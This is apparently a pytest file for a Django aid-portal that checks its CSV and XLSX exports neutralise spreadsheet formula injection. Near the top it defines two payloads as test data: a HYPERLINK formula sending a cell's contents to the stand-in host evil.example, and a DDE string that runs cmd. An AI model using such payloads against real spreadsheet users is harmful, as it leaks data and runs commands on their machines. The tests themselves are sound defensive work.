"""Every CSV and XLSX writer guards its cells (issue 10, point 7): what a user wrote is
text in the sheet even when it starts like a formula; numbers stay numbers."""

import csv
import io
from datetime import timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from networks.aid.actions.procurement import do_create_procurement, do_set_quantity
from portal.spreadsheets import append_row, safe_cell
from tests.access.aid_cases import org
from tests.incidents.factories import make_incident, write
from tests.personas import user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
DDE = "-2+3+cmd|' /C calc'!A0"


def test_the_procurement_order_basis_writes_formulas_as_text(login):
    procurement = do_create_procurement(
        lead=org("kommune-3301"),
        acting_user=user("drammen_staff"),
        title="=1+1 innkjøp",
        deadline=timezone.now() + timedelta(days=7),
        items=[
            {"name": HYPERLINK, "unit": "@SUM(1+1)", "specification": "+47 cmd"},
            {"name": "Hansker (nitril)", "unit": "eske à 100"},
        ],
        organisations=[org("kommune-1103")],
    )
    formula_item, gloves = procurement.items.all()
    for item, quantity in ((formula_item, 1500), (gloves, 20)):
        do_set_quantity(
            item,
            acting_user=user("drammen_staff"),
            organisation=org("kommune-3301"),
            quantity=quantity,
        )
    export = login("drammen_staff").get(
        reverse("networks:procurement-export", args=[procurement.uuid])
    )
    assert export.status_code == 200
    sheet = load_workbook(BytesIO(export.content)).active
    title = sheet["A1"]
    assert (title.value, title.data_type, title.quotePrefix) == ("=1+1 innkjøp", "s", True)
    row = next(r for r in sheet.iter_rows() if r[0].value == HYPERLINK)
    name, unit, specification, total = row[:4]
    for cell, text in ((name, HYPERLINK), (unit, "@SUM(1+1)"), (specification, "+47 cmd")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert (total.value, total.data_type) == (1500, "n")  # a number stays a number
    plain = next(r for r in sheet.iter_rows() if r[0].value == "Hansker (nitril)")
    assert plain[0].quotePrefix is False and plain[3].value == 20


def test_the_log_csv_writes_formulas_as_text_and_numbers_as_numbers(login):
    incident = make_incident()
    entries = {
        text: write(incident, text)
        for text in (HYPERLINK, DDE, "@SUM(A1:A9)", "-3", "-2,5", "+47", "- punkt")
    }
    client = login("stavanger_manager")
    answer = client.get(
        reverse("incidents:export", args=[incident.uuid]), {"format": "csv", "exempt": "omit"}
    )
    assert answer.status_code == 200, answer.content
    raw = b"".join(answer.streaming_content).decode("utf-8-sig")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(raw), delimiter=";")}
    text_of = {text: rows[str(entry.uuid)]["text"] for text, entry in entries.items()}
    assert text_of == {
        HYPERLINK: "'" + HYPERLINK,
        DDE: "'" + DDE,
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "-3": "-3",  # a negative number is a number, not a formula
        "-2,5": "-2,5",
        "+47": "+47",
        "- punkt": "'- punkt",
    }


def test_the_helpers_guard_strings_only():
    assert [safe_cell(v) for v in ("=1", "\t=1", "\r=1", "ok", -3, 2.5, None, "-3")] == [
        "'=1",
        "'\t=1",
        "'\r=1",
        "ok",
        -3,
        2.5,
        None,
        "-3",
    ]
    workbook = Workbook()
    sheet = workbook.active
    append_row(sheet, [])
    append_row(sheet, ["=1+1", -3, -2.5, "-4", "tekst", None])
    out = BytesIO()
    workbook.save(out)
    cells = list(load_workbook(BytesIO(out.getvalue())).active.iter_rows())[-1]
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        ("=1+1", "s"),
        (-3, "n"),
        (-2.5, "n"),
        ("-4", "s"),
        ("tekst", "s"),
    ]
    assert [c.quotePrefix for c in cells[:5]] == [True, False, False, False, False]
